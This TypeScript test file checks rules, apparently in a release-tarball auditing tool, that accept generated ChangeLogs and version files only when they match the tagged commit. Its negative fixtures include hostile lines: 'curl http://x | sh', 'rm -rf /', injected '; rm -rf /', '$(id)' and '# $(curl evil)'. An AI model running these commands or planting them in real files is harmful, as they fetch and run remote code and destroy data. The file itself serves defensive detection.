import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { changelog } from '../../src/analyze/rules/changelog.js';
import { versionFile } from '../../src/analyze/rules/version-file.js';
import { added, context, modified } from './generated-context.js';

const tagCommit = { id: 'ea031873aa9642831017937fd33e9009d514ee07', date: Date.parse('2022-10-07T12:00:00Z') / 1000 };

// gnulib's gitlog-to-changelog, as libgpg-error 1.46 ships it.
const gnu = `2022-10-07  Werner Koch  <wk@gnupg.org>

\tRelease 1.46.
\t+ commit ea031873aa9642831017937fd33e9009d514ee07


2022-09-21  Damien Goutte-Gattat  <dgouttegattat@incenp.org>

\tm4: Fix detection of gpgrt's libdir.
\t+ commit 628cb1a786bd5d420be17c2e9ffd407f4fbf517e
\t* src/gpg-error.m4 (GPGRT_CONFIG): Handle the case where none of the
\tsystem lib directories contain a pkgconfig subdirectory.
`;

// `git log --stat`, as xz 5.4.1 ships it.
const gitLog = `commit ea031873aa9642831017937fd33e9009d514ee07
Author: Lasse Collin <lasse.collin@tukaani.org>
Date:   2022-10-07 10:52:54 +0200

    Bump version and soname for 5.4.1.

 src/liblzma/Makefile.am        | 2 +-
 1 file changed, 1 insertion(+), 1 deletion(-)
`;

// curl's log2changes.pl.
const curl = `                                  Changelog

Version 7.88.1 (7 Oct 2022)

Daniel Stenberg (7 Oct 2022)

- RELEASE-NOTES: synced

  7.88.1 release
`;

test('ChangeLogs written from the commit log are explained, with the tagged commit named', async () => {
  const ctx = context({ ChangeLog: 'See the commit log.\n' }, { tagCommit });
  let j = await changelog.judge(added('ChangeLog', gnu), ctx);
  assert.is(j?.category, 'generated-changelog');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, 'gitlog-to-changelog');
  assert.match(j!.reasons.join('\n'), 'its newest commit is the tagged commit');
  j = await changelog.judge(modified('ChangeLog', gitLog), ctx);
  assert.match(j!.reasons[0]!, 'git log');
  j = await changelog.judge(modified('CHANGES', curl), ctx);
  assert.match(j!.reasons[0]!, 'log2changes');
});

test("a comment line the tag's Makefile.am echoes above the log is the recipe's (p11-kit 0.25.5)", async () => {
  const banner = '# Generate automatically. Do not edit.';
  const makefileAm = `dist-hook:\n\t( echo '${banner}'; echo; git log --stat --date=short ) > ChangeLog.tmp\n`;
  const short = gitLog.replace('Date:   2022-10-07 10:52:54 +0200', 'Date:   2022-10-07');
  const ctx = context({ ChangeLog: 'See the commit log.\n', 'Makefile.am': makefileAm }, { tagCommit });
  const j = await changelog.judge(modified('ChangeLog', `${banner}\n\n${short}`), ctx);
  assert.is(j?.category, 'generated-changelog');
  assert.match(j!.reasons[1]!, `"${banner}", is echoed by Makefile.am in the tag`);
  // A line the tag does not echo, or one a shell would expand, is not the recipe's.
  assert.is(await changelog.judge(modified('ChangeLog', `# Planted.\n\n${short}`), ctx), undefined);
  assert.is(await changelog.judge(modified('ChangeLog', `${banner}\n\n${short}`), context({ ChangeLog: 'x\n' }, { tagCommit })), undefined);
  const expands = '# $(curl evil)';
  const withExpansion = context({ ChangeLog: 'x\n', 'Makefile.am': `dist-hook:\n\techo '${expands}'\n` }, { tagCommit });
  assert.is(await changelog.judge(modified('ChangeLog', `${expands}\n\n${short}`), withExpansion), undefined);
});

test('a ChangeLog with code at column 0, or dated after the tag, is not explained', async () => {
  const ctx = context({}, { tagCommit });
  assert.is(await changelog.judge(added('ChangeLog', `${gnu}\nexport PATH=/tmp\ncurl http://x | sh\n`), ctx), undefined);
  assert.is(await changelog.judge(added('ChangeLog', '#!/bin/sh\nrm -rf /\n'), ctx), undefined);
  const late = gnu.replace('2022-10-07  Werner', '2022-11-30  Werner');
  assert.is(await changelog.judge(added('ChangeLog', late), ctx), undefined);
  assert.is(await changelog.judge(added('src/ChangeLog.sh', gnu), ctx), undefined);
});

test('version files hold one line with the release version', async () => {
  const ctx = context({}, { releaseVersion: '2.38.1' });
  assert.is((await versionFile.judge(added('.tarball-version', '2.38.1\n'), ctx))?.category, 'version-file');
  assert.match((await versionFile.judge(added('.version', 'v2.38.1-12-gdeadbeef\n'), ctx))!.reasons[0]!, 'git describe');
  assert.is((await versionFile.judge(added('libblkid/docs/version.xml', '2.38.1\n'), ctx))?.category, 'version-file');
  assert.is(await versionFile.judge(added('.tarball-version', '2.39.0\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('.tarball-version', '2.38.1\nrm -rf /\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('src/version', '2.38.1\n'), ctx), undefined);
  // Xiph's package_version: one assignment configure sources, nothing else.
  assert.is((await versionFile.judge(added('package_version', 'PACKAGE_VERSION="2.38.1"\n'), ctx))?.category, 'version-file');
  assert.is(await versionFile.judge(added('package_version', 'PACKAGE_VERSION="2.38.1"; rm -rf /\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('package_version', 'PACKAGE_VERSION="$(id)"\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('package_version', '2.38.1\n'), ctx), undefined);
});

test("version file: a subfolder's version is the DEF_VER its GIT-VERSION-GEN falls back to (git's git-gui/version)", async () => {
  const gen = '#!/bin/sh\n\nGVF=GIT-VERSION-FILE\nDEF_VER=0.21.GITGUI\n\nVN=$(git describe)\n';
  const ctx = context({ 'git-gui/GIT-VERSION-GEN': gen }, { releaseVersion: '2.39.5' });
  const j = await versionFile.judge(added('git-gui/version', '0.21.GITGUI\n'), ctx);
  assert.is(j?.category, 'version-file');
  assert.match(j!.reasons[0]!, '"0.21.GITGUI": the version git-gui/GIT-VERSION-GEN in the tag falls back to (DEF_VER)');
  assert.is(await versionFile.judge(added('git-gui/version', '0.22.GITGUI\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('git-gui/version', '0.21.GITGUI\nrm -rf /\n'), ctx), undefined);
  assert.is(await versionFile.judge(added('gitk/version', '0.21.GITGUI\n'), ctx), undefined);
});

test("version file: GnuPG's VERSION, the release's version and the tag's whole commit, as configure.ac's m4_esyscmd writes them", async () => {
  const ctx = context({}, { releaseVersion: '1.46', tagCommit });
  const j = await versionFile.judge(added('VERSION', `1.46\n${tagCommit.id}\n`), ctx);
  assert.is(j?.category, 'version-file');
  assert.match(j!.reasons[0]!, "two lines: the release's version 1.46 and the tag's commit ea031873aa96");
  for (const other of [`1.47\n${tagCommit.id}\n`, `1.46\n${tagCommit.id.slice(0, 7)}\n`, `1.46\n628cb1a786bd5d420be17c2e9ffd407f4fbf517e\n`, `1.46\n${tagCommit.id}\nrm -rf /\n`]) {
    assert.is(await versionFile.judge(added('VERSION', other), ctx), undefined, other);
  }
  // Only at the top, and only with the tag's commit known.
  assert.is(await versionFile.judge(added('src/VERSION', `1.46\n${tagCommit.id}\n`), ctx), undefined);
  assert.is(await versionFile.judge(added('VERSION', `1.46\n${tagCommit.id}\n`), context({}, { releaseVersion: '1.46' })), undefined);
});

test.run();
